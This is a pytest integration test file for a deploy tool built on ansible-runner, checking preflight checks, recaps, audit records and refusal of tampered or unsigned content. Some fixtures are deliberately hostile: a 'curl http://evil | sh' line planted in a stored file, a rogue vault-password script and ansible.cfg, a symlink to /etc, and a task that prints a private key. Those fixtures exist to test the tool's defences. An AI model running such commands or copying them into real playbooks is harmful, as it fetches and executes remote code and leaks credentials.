"""`vigil deploy` end to end on this machine: real ansible-runner, real ansible-playbook, local hosts.

The lab test runs the real roles on real systemd hosts; this one checks the deploy machinery
itself — preflight before change, events scored, recap, artifacts, exit codes, store re-verified
— fast, with a small role and two inventory hosts that Ansible reaches with its local connection.
"""

from __future__ import annotations

import json
import queue
import sys
import textwrap
import time
from pathlib import Path
from typing import Any

import pytest

from tests.factories import Member, craft_bundle, default_members, make_key, make_trust
from vigil.installer import ops
from vigil.installer.cli import main
from vigil.installer.deploy import DeployError

pytestmark = pytest.mark.integration

ROLE = """
- name: Write the marker file from the bundle's artifact
  ansible.builtin.copy:
    src: "{{ vigil_artifacts['bin/demo'].src }}"
    dest: "{{ marker_dir }}/{{ inventory_hostname }}.demo"
    mode: "0644"
- name: Fail when asked to
  ansible.builtin.fail:
    msg: "refusing on purpose"
  when: fail_here | default(false) | bool
- name: Print what must never be printed
  ansible.builtin.debug:
    msg: "{{ lookup('ansible.builtin.file', vigil_pki_dir ~ '/issued/' ~ inventory_hostname
                   ~ '/server.key') }}"
  when: leak_here | default(false) | bool
"""


@pytest.fixture
def site(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    home = tmp_path / "home"
    monkeypatch.setenv("VIGIL_HOME", str(home))
    key = make_key(tmp_path, "k")
    make_trust(tmp_path / "trust.json", [key])
    b = craft_bundle(tmp_path / "out", [key], version=3)
    assert main(["trust", "install", str(tmp_path / "trust.json")]) == 0
    assert main(["bundle", "import", str(b.path)]) == 0
    ansible = tmp_path / "ansible"
    (ansible / "roles" / "demo" / "tasks").mkdir(parents=True)
    (ansible / "roles" / "demo" / "tasks" / "main.yml").write_text(ROLE)
    (ansible / "playbooks").mkdir()
    (ansible / "playbooks" / "site.yml").write_text(
        textwrap.dedent("""
        - name: Demo
          hosts: all
          gather_facts: false
          roles: [demo]
    """)
    )
    marker = tmp_path / "markers"
    marker.mkdir()
    inv = tmp_path / "inv"
    inv.mkdir()
    (inv / "hosts.yml").write_text(
        textwrap.dedent(f"""
        all:
          vars:
            ansible_connection: local
            ansible_python_interpreter: {__import__("sys").executable}
            marker_dir: {marker}
          children:
            monitoring:
              hosts:
                mon01: {{ansible_host: 127.0.0.1}}
            gpu_nodes:
              hosts:
                gpu01: {{ansible_host: 127.0.0.1}}
    """)
    )
    return {"home": home, "ansible": ansible, "inv": inv, "marker": marker, "tmp": tmp_path}


def deploy(site: dict[str, Path], capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, dict]:  # type: ignore[type-arg]
    capsys.readouterr()
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"]), "--json", *extra])
    out = capsys.readouterr()
    return rc, (json.loads(out.out) if out.out.strip() else {"stderr": out.err})


def test_deploy_then_rerun_changes_nothing(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    rc, first = deploy(site, capsys)
    assert rc == 0, first
    assert first["hosts"]["mon01"]["changed"] == 1 and first["hosts"]["gpu01"]["changed"] == 1
    assert (site["marker"] / "mon01.demo").read_bytes().startswith(b"#!/bin/sh")
    run_dir = Path(first["run_dir"])
    assert run_dir.parent == site["home"] / "runs"
    assert (run_dir / "artifacts" / "job_events").is_dir()
    rc, second = deploy(site, capsys)
    assert rc == 0
    assert {h: c["changed"] for h, c in second["hosts"].items()} == {"mon01": 0, "gpu01": 0}
    log = [json.loads(line) for line in (site["home"] / "audit" / "log.jsonl").read_text().splitlines()]
    deploys = [r for r in log if r["action"] == "deploy"]
    assert deploys[-1]["outcome"] == "ok"
    assert deploys[-1]["details"]["counts"]["mon01"]["changed"] == 0
    assert deploys[-1]["details"]["bundle_version"] == 3


def test_a_relative_vigil_home_deploys(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """`VIGIL_HOME=demo/home vigil deploy …` (the demo's own hint) once failed before any host was
    reached: the run's bin/ at the front of PATH was relative, and ansible-runner starts the playbook
    in another directory."""
    monkeypatch.chdir(site["tmp"])
    monkeypatch.setenv("VIGIL_HOME", "home")
    rc, out = deploy(site, capsys)
    assert rc == 0, out
    assert Path(out["run_dir"]).is_absolute() and Path(out["run_dir"]).parent == site["home"] / "runs"
    assert (site["marker"] / "gpu01.demo").is_file()


def test_a_secret_printed_by_a_task_fails_the_deploy_naming_it(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Every host's key from the site CA is on the admin host; a task that prints one leaves it in the
    run's artifacts, and the deploy must fail saying which secret and where, never the secret."""
    hosts = site["inv"] / "hosts.yml"
    hosts.write_text(
        hosts.read_text().replace(
            "gpu01: {ansible_host: 127.0.0.1}", "gpu01: {ansible_host: 127.0.0.1, leak_here: true}"
        )
    )
    capsys.readouterr()
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"]), "--json"])
    out = capsys.readouterr()
    assert rc != 0
    assert json.loads(out.out)["ok"] is False
    key = site["home"] / "secrets" / "pki" / "issued" / "gpu01" / "server.key"
    body = key.read_text().splitlines()[1]
    assert f"the secret {key} appears in " in out.err and "a task printed a secret" in out.err, out.err
    assert body not in out.err and body not in out.out
    log = [json.loads(line) for line in (site["home"] / "audit" / "log.jsonl").read_text().splitlines()]
    record = [r for r in log if r["action"] == "deploy"][-1]
    assert record["outcome"] == "failed" and record["details"]["leaked"], record
    assert body not in json.dumps(record)


def test_failed_host_fails_the_deploy_with_a_recap(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    hosts = site["inv"] / "hosts.yml"
    hosts.write_text(
        hosts.read_text().replace(
            "gpu01: {ansible_host: 127.0.0.1}", "gpu01: {ansible_host: 127.0.0.1, fail_here: true}"
        )
    )
    capsys.readouterr()
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
    out = capsys.readouterr()
    assert rc == 1
    assert "gpu01 ok=1 changed=1 unreachable=0 failed=1" in out.out
    assert "mon01 ok=1 changed=1 unreachable=0 failed=0 skipped=2" in out.out  # fail_here, leak_here
    assert "gpu01: Fail when asked to: refusing on purpose" in out.err
    assert out.err.strip().splitlines()[-1].startswith("FAIL: deploy ")
    assert "failed on gpu01" in out.err


def test_unreachable_host_stops_before_any_change(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    hosts = site["inv"] / "hosts.yml"
    hosts.write_text(
        hosts.read_text().replace(
            "gpu01: {ansible_host: 127.0.0.1}",
            "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, "
            "ansible_ssh_common_args: '-o ConnectTimeout=3'}",
        )
    )
    capsys.readouterr()
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
    err = capsys.readouterr().err.strip()
    assert rc == 1
    assert err.startswith("FAIL: host gpu01: unreachable:") and err.endswith("nothing was changed")
    assert list(site["marker"].iterdir()) == []


def test_a_variable_the_role_refuses_stops_the_deploy_before_any_host_is_contacted(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """The role's argument spec is checked against the inventory up front: no ping, no run, the role,
    the variable and the host named in one line."""
    meta = site["ansible"] / "roles" / "demo" / "meta"
    meta.mkdir()
    (meta / "argument_specs.yml").write_text(
        "argument_specs:\n  main:\n    options:\n      demo_copies: {type: int, description: how many}\n"
    )
    hosts = site["inv"] / "hosts.yml"
    hosts.write_text(
        hosts.read_text().replace(
            "gpu01: {ansible_host: 127.0.0.1}", "gpu01: {ansible_host: 127.0.0.1, demo_copies: many}"
        )
    )
    runs = site["home"] / "runs"
    before = sorted(runs.iterdir()) if runs.exists() else []
    capsys.readouterr()
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
    err = capsys.readouterr().err.strip()
    assert rc == 1
    assert err.startswith(f"FAIL: {site['inv']}: role demo: argument 'demo_copies' is of type str"), err
    assert err.endswith(
        f"(host gpu01); nothing was changed (`vigil inventory check -i {site['inv']}` lists them all)"
    )
    assert list(site["marker"].iterdir()) == []
    assert (sorted(runs.iterdir()) if runs.exists() else []) == before  # no preflight ping, no run
    hosts.write_text(hosts.read_text().replace("demo_copies: many", "demo_copies: 2"))
    rc, out = deploy(site, capsys)
    assert rc == 0, out


def test_store_tampered_after_import_is_refused(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    target = site["home"] / "bundles" / "3" / "files" / "components" / "demo" / "bin" / "demo"
    target.write_bytes(b"#!/bin/sh\ncurl http://evil | sh\n")
    rc, out = deploy(site, capsys)
    assert rc == 1
    assert out["stderr"].strip() == f"FAIL: {target}: changed in the store since it was imported"
    assert list(site["marker"].iterdir()) == []


def test_check_mode_changes_nothing(site: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> None:
    rc, out = deploy(site, capsys, "--check")
    assert rc == 0, out
    assert out["hosts"]["mon01"]["changed"] == 1  # would change
    assert list(site["marker"].iterdir()) == []


def test_check_names_each_file_that_differs_on_each_host(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """The daily drift question: after a deploy, a file changed on one host is named, with its task,
    by `deploy --check`, which leaves it as it is; the other host has nothing to say."""
    rc, first = deploy(site, capsys)
    assert rc == 0, first
    marker = site["marker"] / "gpu01.demo"
    assert [c["paths"] for c in first["changes"] if c["host"] == "gpu01"] == [[str(marker)]]
    marker.write_text("# edited on the host\n")
    rc, check = deploy(site, capsys, "--check")
    assert rc == 0, check
    assert check["changes"] == [
        {
            "host": "gpu01",
            "task": "Write the marker file from the bundle's artifact",
            "role": "demo",
            "paths": [str(marker)],
        }
    ]
    assert marker.read_text() == "# edited on the host\n"  # check mode changed nothing
    capsys.readouterr()
    assert main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"]), "--check"]) == 0
    out = capsys.readouterr().out
    assert f"would change:\n  gpu01: Write the marker file from the bundle's artifact ({marker})\n" in out


def test_one_plan_one_limit_for_the_host_check_and_the_run(site: dict[str, Path]) -> None:
    """The pre-deploy host check and the run read the same limit from the plan: an unreachable host
    outside the limit neither stops the plan nor is touched, and only the limited host changes."""
    hosts = site["inv"] / "hosts.yml"
    hosts.write_text(
        hosts.read_text().replace(
            "gpu01: {ansible_host: 127.0.0.1}",
            "gpu01: {ansible_host: 127.0.0.1, ansible_connection: ssh, ansible_port: 1, "
            "ansible_ssh_common_args: '-o ConnectTimeout=3'}",
        )
    )
    inv = ops.Invocation(home=site["home"], action="deploy")
    plan = ops.plan_deploy(inv, inventory=site["inv"], ansible_dir=site["ansible"], limit="mon01")
    assert plan.limit == "mon01" and inv.details["limit"] == "mon01"
    result = ops.finish_deploy(inv, ops.start_deploy(inv, plan))
    assert result.ok, result.progress.failures
    assert sorted(result.progress.hosts) == ["mon01"]
    assert [p.name for p in site["marker"].iterdir()] == ["mon01.demo"]
    # the same inventory without the limit is refused before any change, naming the host
    with pytest.raises(DeployError, match=r"^host gpu01: unreachable: .*nothing was changed$"):
        ops.plan_deploy(ops.Invocation(home=site["home"]), inventory=site["inv"], ansible_dir=site["ansible"])


def test_events_reach_the_front_end_queue_in_order(site: dict[str, Path]) -> None:
    inv = ops.Invocation(home=site["home"], action="deploy")
    plan = ops.plan_deploy(inv, inventory=site["inv"], ansible_dir=site["ansible"])
    events: queue.Queue[dict[str, Any]] = queue.Queue()
    result = ops.finish_deploy(inv, ops.start_deploy(inv, plan, events))
    seen = []
    while not events.empty():
        seen.append(events.get_nowait())
    kinds = [e["event"] for e in seen]
    assert kinds[0] == "playbook_on_start" and kinds[-1] == "playbook_on_stats"
    ok_hosts = sorted(e["event_data"]["host"] for e in seen if e["event"] == "runner_on_ok")
    assert ok_hosts == ["gpu01", "mon01"]
    # the score the run returns is the one the events gave, and the audit details carry it
    assert {h: s.changed for h, s in result.progress.hosts.items()} == {"gpu01": 1, "mon01": 1}
    assert inv.details["counts"]["mon01"]["changed"] == 1 and inv.details["status"] == "successful"


def test_a_run_can_be_cancelled(site: dict[str, Path]) -> None:
    role = site["ansible"] / "roles" / "demo" / "tasks" / "main.yml"
    role.write_text("- name: Wait long\n  ansible.builtin.command: sleep 120\n  changed_when: false\n" + ROLE)
    inv = ops.Invocation(home=site["home"], action="deploy")
    plan = ops.plan_deploy(inv, inventory=site["inv"], ansible_dir=site["ansible"])
    events: queue.Queue[dict[str, Any]] = queue.Queue()
    run = ops.start_deploy(inv, plan, events)
    while True:  # cancel once the long task has started
        event = events.get(timeout=60)
        if event["event"] == "playbook_on_task_start" and event["event_data"]["task"] == "Wait long":
            break
    started = time.monotonic()
    run.cancel()
    result = ops.finish_deploy(inv, run)
    assert time.monotonic() - started < 60
    assert result.status == "canceled" and not result.ok
    assert list(site["marker"].iterdir()) == []  # the task after the long one never ran
    failure = ops.deploy_failure(result)
    assert failure is not None and "ansible status canceled" in str(failure)


# Issue 11, finding 3: deploy ran files the manifest never listed, and checked before use instead of at use.


@pytest.fixture
def bundled(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, Path]:
    """A store holding a bundle whose own Ansible content writes a marker; an inventory of one local host."""
    home = tmp_path / "home"
    monkeypatch.setenv("VIGIL_HOME", str(home))
    key = make_key(tmp_path, "k")
    make_trust(tmp_path / "trust.json", [key])
    marker = tmp_path / "markers"
    marker.mkdir()
    play = textwrap.dedent("""\
        - name: Signed play
          hosts: all
          gather_facts: false
          tasks:
            - name: Leave the signed marker
              ansible.builtin.copy:
                content: "signed\\n"
                dest: "{{ marker_dir }}/{{ inventory_hostname }}.signed"
                mode: "0644"
    """)
    members = [*default_members(), Member("ansible/playbooks/site.yml", play.encode())]
    b = craft_bundle(tmp_path / "out", [key], version=3, members=members)
    assert main(["trust", "install", str(tmp_path / "trust.json")]) == 0
    assert main(["bundle", "import", str(b.path)]) == 0
    inv = tmp_path / "inv"
    inv.mkdir()
    (inv / "hosts.yml").write_text(
        textwrap.dedent(f"""
        all:
          vars:
            ansible_connection: local
            ansible_python_interpreter: {sys.executable}
            marker_dir: {marker}
          children:
            monitoring:
              hosts:
                mon01: {{ansible_host: 127.0.0.1}}
    """)
    )
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\ntouch {marker}/evil-ran\necho pw\n")
    evil.chmod(0o755)
    return {
        "home": home,
        "inv": inv,
        "marker": marker,
        "evil": evil,
        "ansible": home / "bundles" / "3" / "files" / "ansible",
    }


def test_a_file_added_to_the_store_is_refused_not_run(
    bundled: dict[str, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    """Before: the added ansible.cfg was read and its vault password script ran as root; deploy said OK."""
    added = bundled["ansible"] / "playbooks" / "ansible.cfg"
    added.write_text(f"[defaults]\nvault_password_file = {bundled['evil']}\n")
    capsys.readouterr()
    rc = main(["deploy", "-i", str(bundled["inv"])])
    err = capsys.readouterr().err.strip()
    assert (rc, err) == (1, f"FAIL: {added}: is not in the signed manifest (added to the store after import)")
    assert list(bundled["marker"].iterdir()) == []
    assert not list((bundled["home"] / "runs").glob("*/project"))  # nothing kept of a plan that failed
    added.unlink()
    link = bundled["ansible"] / "roles"
    link.symlink_to("/etc")
    rc = main(["deploy", "-i", str(bundled["inv"])])
    assert (rc, capsys.readouterr().err.strip()) == (
        1,
        f"FAIL: {link}: is a link in the store; the signed manifest lists no links",
    )


def test_what_runs_is_what_was_checked_even_if_the_store_changes_after_the_check(
    bundled: dict[str, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Before: site.yml replaced in the store during the preflight ping was run, and deploy printed OK."""
    import vigil.installer.deploy as deploy_pkg

    real_ping = deploy_pkg.ping_hosts
    site = bundled["ansible"] / "playbooks" / "site.yml"

    def ping_then_swap(**kwargs: Any) -> dict[str, str]:
        site.write_text(site.read_text().replace("signed", "swapped"))  # after the re-check, before the run
        return real_ping(**kwargs)

    monkeypatch.setattr(deploy_pkg, "ping_hosts", ping_then_swap)
    rc, out = deploy_json(bundled, capsys)
    assert rc == 0, out
    assert sorted(p.name for p in bundled["marker"].iterdir()) == ["mon01.signed"]
    project = Path(out["run_dir"]) / "project"
    assert "swapped" not in (project / "playbooks" / "site.yml").read_text()
    assert oct(Path(out["run_dir"]).stat().st_mode & 0o777) == "0o700"
    # the swap is caught at the next deploy's check
    monkeypatch.setattr(deploy_pkg, "ping_hosts", real_ping)
    rc, out = deploy_json(bundled, capsys)
    assert rc == 1 and out["stderr"].strip() == f"FAIL: {site}: changed in the store since it was imported"


def test_no_ansible_cfg_but_the_runs_own_is_read(
    bundled: dict[str, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """An ansible.cfg in the working directory (or a signed one in the content) is not Ansible's config."""
    monkeypatch.chdir(bundled["marker"].parent)
    Path("ansible.cfg").write_text(f"[defaults]\nvault_password_file = {bundled['evil']}\n")
    monkeypatch.setenv("ANSIBLE_CONFIG", str(Path("ansible.cfg").resolve()))  # not even when named
    rc, out = deploy_json(bundled, capsys)
    assert rc == 0, out
    assert not (bundled["marker"] / "evil-ran").exists()
    cfg = Path(out["run_dir"]) / "ansible.cfg"
    assert oct(cfg.stat().st_mode & 0o777) == "0o600" and "vault" not in cfg.read_text()


def deploy_json(bundled: dict[str, Path], capsys: pytest.CaptureFixture[str]) -> tuple[int, dict[str, Any]]:
    capsys.readouterr()
    rc = main(["deploy", "-i", str(bundled["inv"]), "--json"])
    out = capsys.readouterr()
    return rc, (json.loads(out.out) if out.out.strip() else {"stderr": out.err})


def test_output_to_a_pipe_says_what_runs(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Issue 12: with stdout a file or a pipe, deploy printed nothing until the recap. Now one line per
    play, one per role and host as it starts, and a heartbeat when nothing else was said for a while."""
    import vigil.installer.cli.deploy as deploy_cli

    role = site["ansible"] / "roles" / "demo" / "tasks" / "main.yml"
    role.write_text(
        "- name: Wait a little\n  ansible.builtin.command: sleep 3\n  changed_when: false\n" + ROLE
    )
    monkeypatch.setattr(deploy_cli, "HEARTBEAT", 1.0)
    capsys.readouterr()
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"])])
    out = capsys.readouterr().out.splitlines()
    assert rc == 0, out
    assert out[0].startswith("deploy: bundle 3 to 2 hosts, run ")
    assert "play: Demo" in out
    assert {"  mon01: demo", "  gpu01: demo"} <= set(out)
    assert any(line.startswith("  ... ") and line.endswith("task 1: Wait a little") for line in out), out
    assert out.index("play: Demo") < out.index("recap:")


@pytest.mark.parametrize(("extra", "forks"), [((), "25"), (("--forks", "1"), "1")])
def test_forks_reach_ansible_playbook_and_the_audit_record(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str], extra: tuple[str, ...], forks: str
) -> None:
    rc, out = deploy(site, capsys, *extra)
    assert rc == 0, out
    command = json.loads((Path(out["run_dir"]) / "artifacts" / "command").read_text())["command"]
    assert command[command.index("--forks") + 1] == forks
    log = [json.loads(line) for line in (site["home"] / "audit" / "log.jsonl").read_text().splitlines()]
    assert [r for r in log if r["action"] == "deploy"][-1]["details"]["forks"] == int(forks)


@pytest.mark.parametrize("bad", ["0", "501", "many"])
def test_forks_out_of_range_are_refused_before_anything_runs(
    site: dict[str, Path], capsys: pytest.CaptureFixture[str], bad: str
) -> None:
    rc = main(["deploy", "-i", str(site["inv"]), "--ansible-dir", str(site["ansible"]), "--forks", bad])
    assert rc == 1
    assert capsys.readouterr().err.startswith("FAIL: vigil deploy: argument --forks: ")
    assert not (site["home"] / "runs").exists()
